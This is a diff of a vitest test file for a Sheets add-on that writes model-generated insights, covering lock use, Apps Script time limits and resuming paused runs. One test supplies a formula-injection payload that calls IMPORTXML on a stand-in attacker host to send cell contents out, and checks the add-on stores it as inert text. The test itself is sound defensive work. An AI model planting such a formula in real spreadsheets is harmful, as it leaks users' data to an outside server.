@@ -1,4 +1,5 @@
 import { afterEach, describe, expect, it } from 'vitest';
+import { readStoredJson } from '../../apps-script/src/server/stored-json';
 import { sampleSpreadsheet } from '../../preview/src/server/sample-spreadsheet';
 import sheetsManifest from '../../sheets-addon/appsscript.json';
 import { findInsights, analyzeResultsTable } from '../../shared/src/experiments';
@@ -63,7 +64,7 @@ describe('writing insights', () => {
     expect(first.status).toBe('paused');
     expect(first.processed).toBeGreaterThan(0);
     expect(first.processed).toBeLessThan(expected.length);
-    const saved = JSON.parse(t.env.properties.document.getProperty('onbrand.continue.insights.0')!);
+    const saved = readStoredJson(t.env.properties.document as never, 'onbrand.continue.insights');
     expect(saved).toMatchObject({ done: first.processed, total: expected.length });
 
     let report = first;
@@ -72,7 +73,7 @@ describe('writing insights', () => {
     }
     expect(report.status).toBe('done');
     expect(t.records('Insights').map((row) => row.Id)).toEqual(expected);
-    expect(t.env.properties.document.getProperty('onbrand.continue.insights.count')).toBeNull();
+    expect(readStoredJson(t.env.properties.document as never, 'onbrand.continue.insights')).toBeNull();
   });
 
   it('finds the same anomalies as the core on the same rows', () => {
@@ -154,3 +155,71 @@ describe('appending insights to a full sheet', () => {
     expect(t.records('Insights')[998]!.Kind).toBe('winner');
   });
 });
+
+describe('writing insights with a slow model', () => {
+  const answer = (headline: string) => ({ status: 200, body: JSON.stringify({ choices: [{ message: { content: JSON.stringify({ headline, narrative: 'Explained.', nextSteps: [] }) } }] }) });
+
+  function withModel() {
+    const t = sample();
+    t.call('saveSettings', { provider: 'openai', model: 'gpt-test', apiKey: 'sk-test-secret-123456' });
+    return t;
+  }
+
+  it('holds the document lock only to write, never while the model writes', () => {
+    const t = withModel();
+    const heldDuringCalls: boolean[] = [];
+    t.env.urlFetch.handler = () => {
+      heldDuringCalls.push(t.env.lock.documentLock.held);
+      return answer('Model headline');
+    };
+    t.call('writeInsights');
+    expect(heldDuringCalls.length).toBeGreaterThan(1);
+    expect(heldDuringCalls.every((held) => !held)).toBe(true);
+    expect(t.env.lock.documentLock.held).toBe(false);
+  });
+
+  it('keeps every insight it finished when Apps Script stops the run at 6 minutes', () => {
+    const t = withModel();
+    let answered = 0;
+    t.env.urlFetch.handler = () => answer(`Model headline ${++answered}`);
+    // Each answer takes 200 s of the run's 360: the second call is cut off by the time limit.
+    t.env.urlFetch.latencyMs = 200_000;
+    expect(() => t.script.run('writeInsights', [{}])).toThrow('Exceeded maximum execution time');
+    const written = t.records('Insights').filter((row) => row.Id !== '');
+    expect(written.map((row) => row.Headline)).toEqual(['Model headline 1']);
+    expect(t.records('Audit log').map((row) => row.Detail)).toEqual(written.map((row) => `${row.Id}: ${row.Headline}`));
+    expect(t.env.lock.documentLock.held).toBe(false);
+
+    // The next run goes on from there, without writing the kept ones again.
+    t.env.urlFetch.latencyMs = 1_000;
+    t.call('writeInsights');
+    const all = t.records('Insights').map((row) => row.Id);
+    expect(new Set(all).size).toBe(all.length);
+    expect(all.length).toBeGreaterThan(1);
+    expect(all[0]).toBe(written[0]!.Id);
+  });
+
+  it('stops asking the model when too little time is left, and says it paused', () => {
+    const t = withModel();
+    t.env.urlFetch.handler = () => answer('Model headline');
+    t.env.urlFetch.latencyMs = 100_000;
+    const report = t.call('writeInsights');
+    expect(report.status).toBe('paused');
+    expect(t.records('Insights').filter((row) => row.Id !== '')).toHaveLength(report.processed);
+    expect(report.processed).toBeGreaterThan(0);
+  });
+
+  it('writes a model’s headline that looks like a formula as text', () => {
+    const t = withModel();
+    const payload = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
+    t.env.urlFetch.handler = () => answer(payload);
+    t.call('writeInsights');
+    const insights = t.sheet('Insights');
+    const headline = insights.snapshot()[0]!.indexOf('Headline') + 1;
+    expect(t.records('Insights')[0]!.Headline).toBe(payload);
+    expect(insights.formulaAt(2, headline)).toBe('');
+    // The add-on's own link to the Results rows is still a formula.
+    expect(insights.formulaAt(2, insights.snapshot()[0]!.indexOf('Rows') + 1)).toMatch(/^=HYPERLINK\(/);
+  });
+});
+
